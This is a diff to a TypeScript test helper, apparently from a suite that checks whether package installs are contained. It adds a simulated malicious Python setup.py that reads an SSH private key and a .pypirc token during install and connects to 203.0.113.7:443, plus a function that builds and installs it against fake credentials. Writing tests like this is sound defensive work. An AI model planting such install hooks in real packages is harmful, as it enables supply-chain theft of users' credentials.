@@ -1,9 +1,9 @@
 import { join } from 'node:path';
 import type { TestContext } from 'node:test';
-import { environment } from './program.ts';
+import { environment, succeeds } from './program.ts';
 import { remoteHost } from './remote-host.ts';
 import { type WatchedRun, watchedRun } from './watched-run.ts';
-import { checkout, directory, packedNpm } from './workplace.ts';
+import { checkout, directory, fill, packedNpm } from './workplace.ts';
 
 export const PACKAGE = 'left-pads';
 export const DESTINATION = '203.0.113.7:443';
@@ -56,4 +56,32 @@ async function attempt(test: TestContext, language: Language): Promise<WatchedRu
   const env = environment({ HOME: home });
   const network = remoteHost(test);
   return watchedRun(['npm', 'install', '--offline', tarball], { cwd, env, under: network.under(env) });
+}
+
+/** What the build of a Python source distribution runs. */
+const SETUP = `import os, socket
+home = os.path.expanduser('~')
+open(home + '/.ssh/id_ed25519').read()
+open(home + '/.pypirc').read()
+try:
+    socket.create_connection(('203.0.113.7', 443), 2)
+except OSError:
+    pass
+from setuptools import setup
+setup(name='${PACKAGE}', version='1.0.0')
+`;
+
+/** Installs a Python source distribution whose setup.py reads two credentials and connects. */
+export async function pipTheft(test: TestContext): Promise<WatchedRun> {
+  const files = { 'setup.py': SETUP, 'PKG-INFO': `Metadata-Version: 2.1\nName: ${PACKAGE}\nVersion: 1.0.0\n` };
+  const place = directory(test);
+  fill(join(place, `${PACKAGE}-1.0.0`), files);
+  await succeeds(['tar', '-czf', `${PACKAGE}-1.0.0.tar.gz`, `${PACKAGE}-1.0.0`], { cwd: place });
+  const cwd = await checkout(test);
+  await succeeds(['python3', '-m', 'venv', 'env'], { cwd });
+  await succeeds(['env/bin/pip', 'install', '--quiet', 'setuptools', 'wheel'], { cwd });
+  const home = directory(test, { '.pypirc': 'a token\n', '.ssh/id_ed25519': 'the key\n' });
+  const env = environment({ HOME: home });
+  const argv = ['env/bin/pip', 'install', '--no-index', '--no-build-isolation', join(place, `${PACKAGE}-1.0.0.tar.gz`)];
+  return watchedRun(argv, { cwd, env, under: remoteHost(test).under(env) });
 }
